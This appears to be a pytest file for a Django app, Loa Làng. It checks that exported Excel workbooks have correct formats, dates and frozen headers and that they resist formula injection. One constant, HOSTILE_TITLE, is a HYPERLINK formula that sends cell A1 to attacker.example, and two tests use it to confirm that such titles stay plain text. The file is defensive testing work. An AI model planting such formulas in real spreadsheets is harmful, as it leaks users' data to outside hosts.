"""Every workbook Loa Làng hands out is one a finance officer accepts (issue 14 item 6,
issue 12 item 6): checked by opening each export with openpyxl."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from loalang.accounts.models import Role
from loalang.activities.imports import template_xlsx
from loalang.core.testing.sheets import spreadsheet_problems
from loalang.reports.tests.factories import activity, report
from loalang.testing.factories import CommuneFactory, member

D = dt.date
pytestmark = pytest.mark.django_db
HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'


def _download(client, commune, rep):
    url = reverse(
        "reports:download", kwargs={"commune_slug": commune.slug, "pk": rep.pk, "fmt": "xlsx"}
    )
    response = client.get(url)
    assert response.status_code == 200
    return response.content


def test_report_workbook_has_formats_frozen_headers_a4_and_no_iso_dates(
    client, commune, culture_user
):
    activity(commune, on=D(2023, 3, 5), reach=1200)
    rep = report(commune)
    client.force_login(culture_user)
    content = _download(client, commune, rep)
    assert spreadsheet_problems(content) == []
    ws = load_workbook(io.BytesIO(content))["Chỉ tiêu"]
    assert "01/01/2023" in ws["A3"].value and "31/12/2023" in ws["A3"].value


def test_report_title_starting_with_equals_is_text_not_a_formula(client, commune, culture_user):
    rep = report(commune, title=HOSTILE_TITLE)
    client.force_login(culture_user)
    ws = load_workbook(io.BytesIO(_download(client, commune, rep)))["Chỉ tiêu"]
    assert ws["A2"].value == HOSTILE_TITLE
    assert ws["A2"].data_type == "s" and ws["A2"].quotePrefix


def test_issued_report_workbook_passes_the_same_checks(client, commune, chair_user):
    from loalang.reports import services

    activity(commune, on=D(2023, 3, 5))
    rep = report(commune, title=HOSTILE_TITLE, status="submitted")
    services.report_issue(report=rep, actor=chair_user)
    rep.refresh_from_db()
    assert spreadsheet_problems(rep.xlsx_file.read()) == []


def test_province_rollup_workbook_passes_the_checks(client, commune):
    CommuneFactory(province=commune.province)
    activity(commune, on=D(2023, 3, 5))
    client.force_login(member(commune, Role.PROVINCE_VIEWER))
    response = client.get(
        reverse("province:rollup_xlsx", args=[commune.province.slug]),
        {"date_from": "2023-01-01", "date_to": "2023-12-31"},
    )
    assert spreadsheet_problems(response.content) == []


def test_activity_import_template_has_real_dates_and_money_format():
    content = template_xlsx()
    assert spreadsheet_problems(content) == []
    ws = load_workbook(io.BytesIO(content))["Hoạt động"]
    assert ws["C2"].value == dt.datetime(2023, 3, 15) and ws["C2"].number_format == "dd/mm/yyyy"
    assert "₫" in ws["H2"].number_format
